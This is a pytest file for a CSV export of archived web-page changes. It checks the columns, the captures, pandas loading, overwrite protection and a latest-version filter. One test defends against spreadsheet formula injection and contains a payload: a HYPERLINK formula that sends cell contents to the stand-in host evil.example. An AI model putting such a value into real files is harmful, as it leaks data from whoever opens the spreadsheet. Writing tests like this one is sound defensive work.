"""Changes as CSV: with both captures, loaded by pandas, harmless in a spreadsheet."""

import csv
from pathlib import Path

import pytest
from sqlite_utils import Database

from db.errors import ExportTargetError
from db.export import formats
from db.export.evidence import ExportFilter, ExportResult
from db.export.tables import changes
from tests.support import loaders
from tests.support.citations import ALL, CITING, export, fill
from tests.support.shop import Shop

CSV = formats.named("csv")
NESTED = ("removed", "added", "places", "findings")
HEADER = [column.name for column in changes.COLUMNS if column.name not in NESTED]
BEGINNINGS = "=+-@\t\r\n＝＋－＠"


def rows(place: Path) -> list[dict[str, str]]:
    with place.open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file, strict=True))


def test_a_change_has_both_its_captures(db: Database, shelf: Shop, neighbour: Shop, tmp_path: Path):
    fill(shelf, neighbour)
    assert export(CSV, db, tmp_path / "x.csv") == ExportResult(2, 0)
    assert export(CSV, db, tmp_path / "x.csv") == ExportResult(0, 2)
    first, second = rows(tmp_path / "x.csv")
    assert list(first) == HEADER
    assert [first[name] for name in HEADER[:8]] == [
        "shop.example",
        "wording",
        "1",
        "2",
        "2011-01-01T00:00:00Z",
        "2012-01-01T00:00:00Z",
        "6",
        "1",
    ]
    assert (
        float(first["similarity"]) == db.execute("select similarity from changes order by id").fetchone()[0]
    )
    assert first["old_snapshot"] == "https://archive.example/20110101000000/http://shop.example/privacy"
    assert (first["old_timestamp"], first["new_timestamp"]) == ("20110101000000", "20120101000000")
    bodies = db.execute(
        """select b.sha256 from captures c join bodies b on b.id = c.body_id
        where timestamp in ('20110101000000', '20120101000000') order by timestamp"""
    )
    assert [first["old_body_sha256"], first["new_body_sha256"]] == [sha256 for (sha256,) in bodies]
    assert (first["old_digest"], first["old_mimetype"]) == (
        db.execute("select digest from captures where timestamp = '20110101000000'").fetchone()[0],
        "",
    )
    assert (second["old_version"], second["new_version"]) == ("2", "1")


def test_no_change_leaves_a_header(db: Database, tmp_path: Path):
    assert export(CSV, db, tmp_path / "x.csv") == ExportResult(0, 0)
    assert (tmp_path / "x.csv").read_bytes() == ",".join(HEADER).encode() + b"\r\n"
    assert export(CSV, db, tmp_path / "x.csv") == ExportResult(0, 0)


WITH_PANDAS = """
import pandas as pd
frame = pd.read_csv(f"{folder}/changes.csv", parse_dates=["last_old", "first_new"])
report(frame["words_added"].to_list())
report((frame["first_new"] - frame["last_old"]).dt.days.to_list())
report(str(frame["similarity"].dtype))
"""


@loaders.needed
def test_pandas_loads_it(db: Database, shelf: Shop, neighbour: Shop, tmp_path: Path):
    fill(shelf, neighbour)
    export(CSV, db, tmp_path)
    assert loaders.run_code(WITH_PANDAS, tmp_path) == [[6, 1], [365, 365], "float64"]


@pytest.mark.parametrize("beginning", BEGINNINGS)
def test_a_title_is_no_formula(db: Database, shelf: Shop, neighbour: Shop, tmp_path: Path, beginning: str):
    fill(shelf, neighbour)
    title = f'{beginning}HYPERLINK("http://evil.example/?x="&A1,"Click")'
    db.execute("update texts set title = ?", [title])
    export(CSV, db, tmp_path / "x.csv")
    assert [of["title"] for of in rows(tmp_path / "x.csv")] == [f"'{title}"] * 2


def test_a_file_of_another_is_left(db: Database, shelf: Shop, tmp_path: Path):
    (tmp_path / "x.csv").write_text("retailer,kind\ntheirs,theirs\n")
    with pytest.raises(ExportTargetError, match="was not written by this export"):
        CSV.export(db, tmp_path / "x.csv", ALL, CITING, lambda _: None)
    assert (tmp_path / "x.csv").read_text() == "retailer,kind\ntheirs,theirs\n"


def test_the_latest_of_each(db: Database, shelf: Shop, neighbour: Shop, tmp_path: Path):
    fill(shelf, neighbour)
    assert export(CSV, db, tmp_path / "x.csv", ExportFilter(latest=True)) == ExportResult(1, 0)
    assert [of["old_version"] for of in rows(tmp_path / "x.csv")] == ["2"]
